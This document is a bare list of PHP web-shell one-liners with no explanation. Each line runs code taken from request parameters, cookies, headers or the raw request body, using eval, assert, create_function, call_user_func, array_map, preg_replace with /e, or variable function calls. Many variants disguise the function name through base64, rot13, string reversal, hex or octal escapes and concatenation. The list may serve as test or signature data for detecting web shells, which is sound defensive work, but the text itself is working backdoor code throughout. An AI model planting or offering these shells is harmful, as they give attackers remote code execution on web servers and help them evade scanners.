<?php eval($_POST['pass']); ?>
<?php eval($_GET['c']); ?>
<?php eval($_REQUEST['x']); ?>
<?php eval($_COOKIE['k']); ?>
<?php eval($_SERVER['HTTP_X_CODE']); ?>
<?php eval( $_POST['pass'] ); ?>
<?php eval( $_GET['c'] ); ?>
<?php eval( $_REQUEST['x'] ); ?>
<?php eval ($_POST['pass']); ?>
<?php eval ($_GET['c']); ?>
<?php eval ($_REQUEST['x']); ?>
<?php Eval($_POST['pass']); ?>
<?php Eval($_REQUEST['x']); ?>
<?php EVAL($_POST['pass']); ?>
<?php EVAL($_REQUEST['x']); ?>
<?php eval(stripslashes($_POST['code'])); ?>
<?php eval(stripslashes($_REQUEST['code'])); ?>
<?php eval(base64_decode($_POST['z0'])); ?>
<?php eval(base64_decode($_GET['z'])); ?>
<?php eval(base64_decode($_REQUEST['z'])); ?>
<?php eval(base64_decode($_COOKIE['z'])); ?>
<?php eval(gzuncompress(base64_decode('eJxLLUvM0VBJzs9NSCxKzdNUSMvMS0nVBAAyEwWt'))); ?>
<?php eval(gzinflate(str_rot13(base64_decode('HJ3HkqNIEkQ/p')))); ?>
<?php eval(str_rot13(gzinflate(base64_decode('rUl9cttGFP4Xn')))); ?>
<?php eval(base64_decode(strrev('==wOpkSXnMHZvRmI'))); ?>
<?php eval(gzinflate(base64_decode(str_rot13('F0ba2nfgF')))); ?>
<?php eval(file_get_contents("php://input")); ?>
<?php assert($_POST['x']); ?>
<?php assert($_REQUEST['x']); ?>
<?php assert ($_POST['x']); ?>
<?php assert ($_REQUEST['x']); ?>
<?php ASSERT($_POST['x']); ?>
<?php assert(base64_decode($_POST['x'])); ?>
<?php assert(stripslashes($_REQUEST['x'])); ?>
<?php assert(file_get_contents('php://input')); ?>
<?php $f = create_function('',$_POST['c']); $f(); ?>
<?php $f = create_function("", $_POST['c']); $f(); ?>
<?php call_user_func($_GET['f'], $_GET['a']); ?>
<?php call_user_func($_POST['f'], $_POST['a']); ?>
<?php call_user_func($_REQUEST['f'], $_REQUEST['a']); ?>
<?php call_user_func("assert", $_POST['k']); ?>
<?php array_map("assert", (array)$_POST['k']); ?>
<?php array_map($_GET['f'], (array)$_GET['a']); ?>
<?php array_map($_POST['f'], (array)$_POST['a']); ?>
<?php array_map($_REQUEST['f'], (array)$_REQUEST['a']); ?>
<?php preg_replace("/.*/e", $_POST['c'], ""); ?>
<?php preg_replace('/.*/e', $_POST['c'], ''); ?>
<?php preg_replace("/.*/e",$_REQUEST['c'],""); ?>
<?php $_GET['a']($_GET['b']); ?>
<?php $_POST['x']($_POST['y']); ?>
<?php $_REQUEST[0]($_REQUEST[1]); ?>
<?php $_COOKIE['f']($_COOKIE['a']); ?>
<?php @$_GET['a'](@$_GET['b']); ?>
<?php @$_POST['a'](@$_POST['b']); ?>
<?php @$_REQUEST['a'](@$_REQUEST['b']); ?>
<?php $_POST['x'] ($_POST['y']); ?>
<?php $_GET['x'] ($_GET['y']); ?>
<?php $_=$_POST['a']; $_($_POST['b']); ?>
<?php $_=$_GET['a']; $_($_GET['b']); ?>
<?php $p = ${"_PO"."ST"}; $p['a']($p['b']); ?>
<?php $p = ${'_PO'.'ST'}; $p['a']($p['b']); ?>
<?php $a = "as"."se"."rt"; $a($_POST['x']); ?>
<?php $a = 'as'.'se'.'rt'; $a($_POST['x']); ?>
<?php $e = "e"."v"."a"."l"; ?>
<?php $f = str_rot13("riny"); ?>
<?php $f = strrev('tressa'); $f($_POST['x']); ?>
<?php $f = strrev("tressa"); $f($_POST['x']); ?>
<?php $c = base64_decode('ZXZhbCgkX1BPU1RbY10pOw=='); ?>
<?php $c = base64_decode("ZXZhbCgkX1BPU1RbY10pOw=="); ?>
<?php $c = 'ZXZhbCgkX1BPU1RbJ2MnXSk7'; ?>
<?php $c = 'ZXZhbCgkX0dFVFsnYyddKTs='; ?>
<?php $c = 'ZXZhbCgkX1JFUVVFU1RbJ2MnXSk7'; ?>
<?php $c = 'YXNzZXJ0KCRfUE9TVFsnYyddKTs='; ?>
<?php $f = "\x61\x73\x73\x65\x72\x74"; $f($_POST['x']); ?>
<?php $f = "\145\166\141\154\050"; ?>
<?php $f = chr(101).chr(118).chr(97).chr(108); ?>
<?php eval($_POST[1]);?>
<?php assert($_POST[1]);?>
<?=eval($_POST[1]);?>
<script language="php">eval($_POST['x']);</script>
